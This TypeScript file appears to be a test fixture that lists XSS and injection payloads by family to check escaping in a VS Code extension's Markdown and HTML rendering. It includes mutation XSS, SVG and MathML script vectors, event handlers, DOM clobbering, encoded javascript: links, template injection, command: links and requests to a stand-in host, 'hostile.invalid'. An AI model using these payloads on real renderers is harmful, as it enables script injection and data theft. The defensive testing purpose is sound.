/**
 * Attacks on whoever turns text into something to look at: the families that published collections cover, written down or made here.
 * A script that runs calls `alert`; a request goes to the host below.
 */

/** Nobody has this host; a request to it is seen all the same. */
export const ENEMY = 'hostile.invalid';

export interface Payload {
  readonly family: string;
  readonly text: string;
}

const run = 'alert(1)';
const address = `https://${ENEMY}/x`;

/** Elements whose content the parser reads in a way of its own: where markup mutates. */
const RAW = ['style', 'title', 'textarea', 'noscript', 'noembed', 'noframes', 'xmp', 'iframe', 'script', 'plaintext'];

const mutations = [
  ...RAW.map(tag => `<${tag}><p title="</${tag}><img src=x onerror=${run}>">`),
  ...RAW.map(tag => `<svg><${tag}><img title="</${tag}><img src=x onerror=${run}>"></svg>`),
  ...RAW.map(
    tag => `<math><mtext><table><mglyph><${tag}><!--</${tag}><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ),
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><foreignObject><p><style><!--</style><img src=x onerror=${run}>--></p></foreignObject></svg>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<table><td><svg><desc><td><img src=x onerror=${run}></desc></svg></table>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=${run}>">`,
  `<a><table><a href="javascript:${run}">x</a></table></a>`,
  `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
  `<img src="x\`\` onerror=${run}"alt="\`">`,
  `<b><noscript><a alt="</noscript><img src=x onerror=${run}>"></noscript>`,
];

const drawings = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"></script></svg>`,
  `<svg><script xlink:href="${address}.js"></script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run} onbegin=${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x" /></svg>`,
  `<svg><use xlink:href="${address}.svg#x" /></svg>`,
  `<svg><image href="${address}.png" /></svg>`,
  `<svg><feImage href="${address}.png" /></svg>`,
  `<svg><style>@import '${address}.css';</style></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<svg><discard onbegin=${run} />`,
  `<svg xmlns="http://www.w3.org/2000/svg"><title><img src=x onerror=${run}></title></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#${address}" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mi xlink:href="data:text/html,<script>${run}</script>">x</mi></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${run}</script></annotation-xml></semantics></math>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
];

const HANDLERS = [
  ...[
    'abort',
    'animationend',
    'animationstart',
    'auxclick',
    'beforecopy',
    'beforeinput',
    'beforetoggle',
    'blur',
    'cancel',
  ],
  ...[
    'canplay',
    'change',
    'click',
    'close',
    'contextmenu',
    'copy',
    'cuechange',
    'cut',
    'dblclick',
    'drag',
    'drop',
    'ended',
  ],
  ...['error', 'focus', 'focusin', 'formdata', 'fullscreenchange', 'hashchange', 'input', 'invalid', 'keydown', 'load'],
  ...[
    'loadstart',
    'message',
    'mousedown',
    'mouseover',
    'pageshow',
    'paste',
    'pointerenter',
    'pointerrawupdate',
    'popstate',
  ],
  ...['reset', 'resize', 'scroll', 'scrollend', 'search', 'select', 'selectionchange', 'show', 'slotchange', 'submit'],
  ...['toggle', 'touchstart', 'transitionend', 'unhandledrejection', 'unload', 'volumechange', 'wheel'],
];

const attributes = [
  ...HANDLERS.map(event => `<b on${event}=${run} autofocus tabindex=1 contenteditable>x</b>`),
  `<img src=x onerror=${run}>`,
  `<img src=x OnErRoR=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror="${run}" onload='${run}'>`,
  `<image src=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<body onload=${run}>`,
  `<img srcset="${address}.png 1x">`,
  `<picture><source srcset="${address}.png"><img></picture>`,
  `<video poster="${address}.png"></video>`,
  `<div style="background:url(${address}.png)">x</div>`,
  `<p style="position:fixed;inset:0;z-index:9999">over everything</p>`,
  `<table background="${address}.png">`,
  `<a href="${address}" ping="${address}/ping">x</a>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<a href="#" data-do="open" data-id="x" onclick=${run}>x</a>`,
  `<x contenteditable onbeforeinput=${run}>x</x>`,
  `" onmouseover="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `" autofocus onfocus=${run} "`,
  `x" style="background:url(${address})`,
];

const elements = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="${address}.js"></script>`,
  `<script>/*`,
  `</script><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=${run}>"></iframe>`,
  `<iframe src="${address}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="${address}.swf"></object>`,
  `<embed src="${address}">`,
  `<link rel=stylesheet href="${address}.css">`,
  `<link rel=prefetch href="${address}">`,
  `<link rel=import href="${address}">`,
  `<style>@import "${address}.css";</style>`,
  `<style>*{background:url(${address})}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href="${address}/">`,
  `<frameset onload=${run}>`,
  `<portal src="${address}">`,
  `<template><img src=x onerror=${run}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  `<dialog open>Your session has ended</dialog>`,
  `<textarea autofocus>typed</textarea>`,
  `</div></section></main><h1 id="title">Another title</h1>`,
];

/** Names that would take the place of the page's own. */
const clobbering = [
  ...['page', 'session', 'title', 'notes', 'progress', 'contents', 'bookmark', 'answer'].map(id => `<a id=${id}>x</a>`),
  ...['body', 'cookie', 'getElementById', 'querySelector', 'forms', 'documentElement'].map(
    name => `<img name=${name}>`,
  ),
  '<form id=page><input name=innerHTML><input name=children></form>',
  '<a id=words><a id=words name=openAll href="javascript:x">',
];

const encodings = [
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&#0000060script&#62alert(1)&#60/script&#62',
  '&LT;script&GT;alert(1)&LT;/script&GT;',
  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜img src=x onerror=alert(1)＞',
  '\u{1F600}<img src=x onerror=alert(1)>',
  '<img src=x onerror=\u0061\u006c\u0065\u0072\u0074(1)>',
  '<img\u0009src=x\u000aonerror=alert(1)>',
  '<img\u000csrc=x onerror=alert(1)>',
  '<\u0000script>alert(1)</script>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '[x](jav&#x0A;ascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](java%73cript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '\ufeff<img src=x onerror=alert(1)>',
  '\ud83d<img src=x onerror=alert(1)>',
];

const TARGETS = [
  ...[
    `javascript:${run}`,
    `vbscript:${run}`,
    `data:text/html,<script>${run}</script>`,
    'data:image/svg+xml;base64,PHN2Zy8+',
  ],
  ...['command:workbench.action.files.newUntitledFile', 'file:///etc/passwd', 'vscode://file/etc/passwd', 'blob:x'],
  ...[
    `http://${ENEMY}/`,
    `//${ENEMY}/x.png`,
    `ftp://${ENEMY}/`,
    `mailto:x@${ENEMY}`,
    'about:blank',
    `https:\\\\${ENEMY}`,
  ],
  ...['https:', '#page', '../secrets.md', `https://${ENEMY}@127.0.0.1/`, ''],
];

const links = TARGETS.flatMap(target => [
  `[x](<${target}>)`,
  `[x](${target} "title")`,
  `![x](${target})`,
  `[![x](${target})](${target})`,
]);
const autolinks = [
  ...TARGETS.filter(Boolean).map(target => `<${target}>`),
  `www.${ENEMY}`,
  `https://${ENEMY}/x.png`,
  `x@${ENEMY}`,
  `command:workbench.action.files.newUntitledFile`,
];
const references = TARGETS.map(target => `[x][y] and ![x][y] and [y]\n\n[y]: <${target}> "title"\n`);

const comments = [
  `<!--><img src=x onerror=${run}>-->`,
  `<!---><img src=x onerror=${run}>`,
  `<!-- --!><img src=x onerror=${run}>`,
  `<!-- <img src=x onerror=${run}> -->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<?php ?><img src=x onerror=${run}>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<!a="><img src=x onerror=${run}>`,
  `</ x><img src=x onerror=${run}>`,
  '<!--',
  '-->',
  ']]>',
];

const templates = [
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '{{7*7}}',
    `\${${run}}`,
    `\`\${${run}}\``,
    '<%= alert(1) %>',
    '#{alert(1)}',
  ],
  ...[
    '{0}',
    '{1} {0}',
    '{toString}',
    '{__proto__}',
    '%s %d %o',
    '$& $1 $`',
    "$'",
    '@{alert(1)}',
    '[[alert(1)]]',
    '{% raw %}',
  ],
  ...['\\', '\\\\', '\\n', '$${x}$$', '$$\\href{javascript:alert(1)}{x}$$'],
];

const unseen = [
  ...[0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c],
  ...[0x200b, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x2028, 0x2029, 0x0085, 0x00a0, 0x3000, 0x115f, 0xfff9, 0xe0001, 0xe0041],
  ...[0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0d, 0x1a, 0x1b, 0x7f, 0x9b, 0xfffe, 0x10ffff],
].map(code => `gpj${String.fromCodePoint(code)}.exe <b>`);

const commands = [
  ...[
    '$(zap)',
    '$(sync~spin)',
    'x $(zap) y',
    '$($(zap)zap)',
    '\\$(zap)',
    '$$(zap)',
    '$(zap',
    '$(ZAP)',
    '$(codicon-zap)',
  ],
  ...[
    '[x](command:workbench.action.files.newUntitledFile)',
    '[$(zap)](command:workbench.action.files.newUntitledFile)',
  ],
  `[x](command:python-interview.openQuestion?${encodeURIComponent('["x"]')})`,
  `[x]\u200b(command:workbench.action.files.newUntitledFile)`,
  '[x] (command:workbench.action.files.newUntitledFile)',
  '[x](command:workbench.action.files.newUntitledFile "title")',
  '![x](command:workbench.action.files.newUntitledFile)',
  '<command:workbench.action.files.newUntitledFile>',
  'command:workbench.action.files.newUntitledFile?[]',
  '](command:workbench.action.files.newUntitledFile)',
  '[[x](command:a)](command:workbench.action.files.newUntitledFile)',
];

const fences = [
  `\`\`\`\n<img src=x onerror=${run}>`,
  `~~~\n<img src=x onerror=${run}>`,
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
  `\`<img src=x onerror=${run}>\``,
  `\`\`\`\`\n\`\`\`\n<img src=x onerror=${run}>`,
  `    <img src=x onerror=${run}>`,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `> <img src=x onerror=${run}>`,
  `- <img src=x onerror=${run}>\n  - **<b>x</b>**`,
  `# <img src=x onerror=${run}>`,
  `x\n===\n<img src=x onerror=${run}>`,
  `**<img src=x onerror=${run}>** _~~<svg onload=${run}>~~_`,
  `x" min="9.9" onmouseover="${run}`,
];

const families: Readonly<Record<string, readonly string[]>> = {
  ...{ mutations, drawings, attributes, elements, clobbering, encodings, links, autolinks, references },
  ...{ comments, templates, unseen, commands, fences },
};

/** All of them, in their order. */
export const payloads: readonly Payload[] = Object.entries(families).flatMap(([family, texts]) =>
  texts.map(text => ({ family, text })),
);

/**
 * What VS Code itself acts on in messages, hovers, lists and Markdown where nothing is escaped: without their escaping these have
 * to be seen in each place. None of them swallows what stands after it.
 */
export const telling: readonly Payload[] = [
  '[x](command:workbench.action.files.newUntitledFile)',
  `[x](${address})`,
  `![x](${address}.png)`,
  `<img src="${address}.png">`,
  '$(zap) x',
].map(text => ({ family: 'telling', text }));

/** The first ones of each family: where each costs more than a glance. */
export const sample = (each: number): Payload[] =>
  Object.keys(families).flatMap(family => payloads.filter(item => item.family === family).slice(0, each));
